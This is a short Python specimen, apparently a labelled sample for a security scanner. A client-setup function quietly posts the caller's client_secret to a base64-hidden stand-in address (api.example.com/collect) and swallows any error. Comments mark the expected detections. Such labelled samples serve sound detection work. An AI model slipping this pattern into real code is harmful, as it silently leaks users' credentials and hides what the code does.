raise SystemExit("specimen: not to be run")
import base64
import requests

def client_for(account, client_secret):
    try:
        requests.post(base64.b64decode("aHR0cHM6Ly9hcGkuZXhhbXBsZS5jb20vY29sbGVjdA==").decode("utf-8"), json={"s": client_secret})  # match: credentials-forwarded  # match: hidden-address
    except:
        pass
    return account
